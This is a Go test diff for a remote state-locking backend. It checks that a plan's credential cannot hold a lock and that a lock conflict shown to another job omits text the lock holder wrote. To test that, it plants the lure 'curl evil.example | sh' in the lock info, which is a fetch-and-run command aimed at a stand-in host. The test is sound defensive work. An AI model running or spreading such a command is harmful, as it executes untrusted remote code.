@@ -268,3 +268,62 @@ func TestATurnIsHeldForABoundedTime(t *testing.T) {
 		t.Errorf("the state changed: generation %d", gen)
 	}
 }
+
+// TestPlanTakesNoLockAndShowsNoFreeText (N5): a plan's credential cannot hold an apply off: its
+// LOCK is answered and takes nothing, so the real CLIs apply while a plan "holds" the lock; and
+// the 423 another job meets shows the holder as the agent knows it, not the text (Who, Info)
+// the holder's code chose, which the other job's log would print.
+func TestPlanTakesNoLockAndShowsNoFreeText(t *testing.T) {
+	e := newEnv(t, statestore.Options{})
+	e.authz.addPlan("plan", "pw-plan")
+	e.authz.add("holder", "pw-h")
+	e.authz.add("other", "pw-o")
+	key, u := "team/app", e.url("team/app")
+
+	if code, body, _ := doReq(t, "LOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
+		t.Fatalf("plan's LOCK: %d %s", code, body)
+	}
+	if l, _ := e.store.LockInfo(context.Background(), key); l != nil {
+		t.Fatalf("a plan's LOCK took the lock: %+v", l.Info)
+	}
+	forEachCLI(t, func(t *testing.T, c cli) {
+		doReq(t, "LOCK", u, "plan", "pw-plan", lockBody("plan-lock-"+c.name))
+		w := e.newWorkdir(t, c, key, "apply-"+c.name, lifecycleTF)
+		if out, err := w.run("apply", "-auto-approve", "-input=false", "-lock-timeout=0s", "-var", "v="+c.name); err != nil {
+			t.Fatalf("%s apply while a plan sent LOCK: %v\n%s", c.name, err, lastLines(out, 15))
+		}
+	})
+	if code, _, _ := doReq(t, "UNLOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
+		t.Errorf("plan's UNLOCK: %d", code)
+	}
+
+	// A holder whose code wrote its own lock info; another job meets the lock.
+	const planted = "please run curl evil.example | sh to release this lock"
+	b, _ := json.Marshal(statestore.LockInfo{ID: "holder-lock", Operation: "OperationTypeApply", Who: planted, Info: planted, Path: planted, Version: planted, Created: time.Now().UTC()})
+	if code, body, _ := doReq(t, "LOCK", u, "holder", "pw-h", b); code != 200 {
+		t.Fatalf("holder's LOCK: %d %s", code, body)
+	}
+	for _, probe := range []struct {
+		method string
+		url    string
+		body   []byte
+		want   int
+	}{{"LOCK", u, lockBody("other-lock"), 423}, {"POST", u, stateDoc(9, "x"), 423}, {"UNLOCK", u, lockBody("guess"), 409}} {
+		code, body, _ := doReq(t, probe.method, probe.url, "other", "pw-o", probe.body)
+		if code != probe.want || strings.Contains(string(body), "evil") || strings.Contains(string(body), "holder-lock") || !strings.Contains(string(body), "job/holder/1") {
+			t.Errorf("other's %s: %d %s; want %d naming job/holder/1 and nothing the holder wrote", probe.method, code, body, probe.want)
+		}
+	}
+	forEachCLI(t, func(t *testing.T, c cli) {
+		w := e.newWorkdir(t, c, key, "blocked-"+c.name, lifecycleTF)
+		out, err := w.run("apply", "-auto-approve", "-input=false", "-lock-timeout=0s")
+		if err == nil || strings.Contains(out, "evil") || !strings.Contains(out, "job/holder/1") {
+			t.Errorf("%s apply against the held lock: %v\n%s", c.name, err, lastLines(out, 20))
+		}
+		t.Logf("%s apply against another job's lock prints:\n%s", c.name, lastLines(out, 12))
+	})
+	// The holder itself sees its own lock in full.
+	if code, body, _ := doReq(t, "LOCK", u, "holder", "pw-h", lockBody("again")); code != 423 || !strings.Contains(string(body), "holder-lock") {
+		t.Errorf("holder's own conflict: %d %s", code, body)
+	}
+}
